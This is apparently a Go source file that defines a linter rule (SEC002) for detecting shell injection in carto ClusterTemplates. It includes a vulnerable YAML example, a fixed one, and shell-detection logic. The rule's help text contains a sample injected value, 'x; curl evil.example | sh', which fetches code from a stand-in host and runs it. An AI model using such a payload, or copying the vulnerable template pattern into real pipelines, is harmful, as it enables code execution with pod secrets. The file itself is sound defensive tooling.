package security

import (
	"cmp"
	"maps"
	"path"
	"strconv"
	"strings"

	"github.com/carto-run/carto/pkg/api/v1alpha1"
	"github.com/carto-run/carto/pkg/blueprint"
	"github.com/carto-run/carto/pkg/lint"
	"github.com/carto-run/carto/pkg/manifest"
)

var shellRules = []*lint.Rule{
	{
		ID: "SEC002", Slug: "shell-injection", Level: lint.Warning, Needs: lint.NeedsFiles,
		Title: "text that owners write becomes a part of a shell script",
		Text: `Whoever may write a Workload writes the text that the tag stands for, and a shell takes it for code: a URL such
as ` + "`x; curl evil.example | sh`" + ` runs in the pod, with its account and its secrets.

Hand the text on as a value of the environment or as a param, and quote it in the script: ` + "`env: [{name: URL, value:\n$(workload.spec.source.git.url)$}]`" + ` and ` + "`git clone \"$URL\"`" + `.`,
		Bad: `apiVersion: carto.run/v1alpha1
kind: ClusterTemplate
metadata: {name: clone}
spec:
  lifecycle: tekton
  template:
    apiVersion: tekton.dev/v1
    kind: TaskRun
    metadata: {generateName: $(workload.metadata.name)$-}
    spec:
      taskSpec:
        steps:
        - name: clone
          image: git
          command: [sh, -c]
          args:
          - git clone $(workload.spec.source.git.url)$ # <-
        - name: list
          image: git
          script: |
            ls $(workload.spec.source.subPath)$ #! <-
`,
		Good: `apiVersion: carto.run/v1alpha1
kind: ClusterTemplate
metadata: {name: clone}
spec:
  lifecycle: tekton
  template:
    apiVersion: tekton.dev/v1
    kind: TaskRun
    metadata: {generateName: $(workload.metadata.name)$-}
    spec:
      taskSpec:
        steps:
        - name: clone
          image: git
          env: [{name: URL, value: $(workload.spec.source.git.url)$}]
          command: [sh, -c]
          args:
          - git clone "$URL"
`,
		Check: scripts,
	},
}

func scripts(p *lint.Pass) {
	inputs := ownedInputs(p)
	for _, t := range p.Templates {
		inScript := scriptsOf(t)
		if len(inScript) == 0 {
			continue
		}
		for i := range t.Reads {
			r := &t.Reads[i]
			if r.Key || !inScript[cmp.Or(r.Field, r.Into)] {
				continue
			}
			if from := inputs[[2]string{t.Template.Name, inputName(t, r)}]; from != nil {
				p.Report(r.Place, "what an owner writes becomes a part of a shell script, by the input %s of a Runnable", r.Names[3]).
					Because(from.Range, "the input is made here").
					Do("hand it on as a value of the environment, and quote it in the script")
			} else if use, owned := ownerWrites(t, r); owned {
				f := p.Report(r.Place, "what an owner writes in %s becomes a part of a shell script", r.Path()).
					Do("hand it on as a value of the environment, and quote it in the script")
				if use != nil {
					f.Because(use.Blueprint.Doc.Key(use.StepPath), "%s uses the template", use)
				}
			}
		}
	}
}

// inputName is the input of a Runnable that a run template reads; empty when it reads none.
func inputName(t *lint.Template, r *lint.Read) string {
	if !t.IsRun() || len(r.Names) < 4 || !strings.HasPrefix(r.Path(), "runnable.spec.inputs.") {
		return ""
	}
	return r.Names[3]
}

// ownedInputs are the inputs of Runnables that hold what an owner writes, by the run
// template and the name of the input.
func ownedInputs(p *lint.Pass) map[[2]string]*lint.Place {
	owned := map[[2]string]*lint.Place{}
	for _, t := range p.Templates {
		spec, _ := t.Body["spec"].(map[string]any)
		ref, _ := spec["runTemplateRef"].(map[string]any)
		run, _ := ref["name"].(string)
		if t.Body["kind"] != v1alpha1.KindRunnable || run == "" {
			continue
		}
		for i := range t.Reads {
			r := &t.Reads[i]
			name, isInput := strings.CutPrefix(r.Field, "spec.inputs.")
			if _, writes := ownerWrites(t, r); isInput && writes && !r.Key && !strings.ContainsAny(name, ".[") {
				owned[[2]string{run, name}] = &r.Place
			}
		}
	}
	return owned
}

// ownerWrites says that a read gives what an owner writes freely: its spec, labels and
// annotations, and params that no blueprint fixes. Names have a form that is safe.
func ownerWrites(t *lint.Template, r *lint.Read) (*lint.Use, bool) {
	if len(r.Names) < 2 {
		return nil, r.Root() == "workload" || r.Root() == "deliverable"
	}
	switch r.Root() {
	case "workload", "deliverable":
		free := r.Names[1] == "spec" || r.Names[1] == "metadata" && (len(r.Names) == 2 || r.Names[2] == "labels" || r.Names[2] == "annotations")
		isName := r.Names[1] == "spec" && len(r.Names) == 3 && r.Names[2] == "serviceAccountName"
		return nil, free && !isName
	case "params":
		for _, use := range t.Uses {
			params := blueprint.ResolveParams(t.Params, use.Blueprint.Blueprint, use.Step, nil)
			if !params[r.Names[1]].Locked {
				return use, true
			}
		}
	}
	return nil, false
}

// scriptsOf are the paths of the scripts of a body of any sort.
func scriptsOf(t *lint.Template) map[string]bool {
	if t.Body != nil {
		return scriptFields(t.Body)
	}
	if !strings.Contains(t.Spec.Ytt, "script:") && !strings.Contains(t.Spec.Ytt, "-c") {
		return nil // which spares most from being read again
	}
	all := map[string]bool{}
	for _, doc := range t.Literals() {
		maps.Copy(all, scriptFields(doc.Object))
	}
	return all
}

// scriptFields are the paths of the texts that a shell runs: arguments after -c, and the
// scripts of Tekton's steps.
func scriptFields(body map[string]any) map[string]bool {
	fields := map[string]bool{}
	lint.Walk(body, "", func(at string, value any) {
		container, ok := value.(map[string]any)
		if !ok {
			return
		}
		_, hasScript := container["script"]
		_, isNamed := container["name"]
		_, hasImage := container["image"]
		if script, _ := container["script"].(string); hasScript && (isNamed || hasImage) && !hasInterpreter(script) {
			fields[manifest.Append(at, "script")] = true
		}
		command, args := texts(container["command"]), texts(container["args"])
		words := append(append([]string{}, command...), args...)
		if len(words) == 0 {
			return
		}
		shell := isShell(words[0]) || len(command) == 0 && words[0] == "-c"
		for i := range words[:len(words)-1] {
			if shell && isCommandFlag(words[i]) {
				if next := i + 1; next < len(command) {
					fields[manifest.Append(at, "command["+strconv.Itoa(next)+"]")] = true
				} else {
					fields[manifest.Append(at, "args["+strconv.Itoa(next-len(command))+"]")] = true
				}
				return
			}
		}
	})
	return fields
}

// hasInterpreter says that the first line of a script names a program that is no shell.
func hasInterpreter(script string) bool {
	first, _, _ := strings.Cut(script, "\n")
	program, ok := strings.CutPrefix(first, "#!")
	if !ok {
		return false
	}
	for word := range strings.FieldsSeq(program) {
		if isShell(word) {
			return false
		}
	}
	return true
}

func isShell(word string) bool {
	switch path.Base(word) {
	case "sh", "bash", "ash", "dash", "zsh", "ksh":
		return true
	}
	return false
}

// isCommandFlag says that the next word is a script: -c, -ec, -euxc.
func isCommandFlag(word string) bool {
	return len(word) > 1 && len(word) < 8 && word[0] == '-' && word[1] != '-' && strings.HasSuffix(word, "c")
}

func texts(value any) []string {
	list, _ := value.([]any)
	var all []string
	for _, item := range list {
		text, _ := item.(string)
		all = append(all, text)
	}
	return all
}
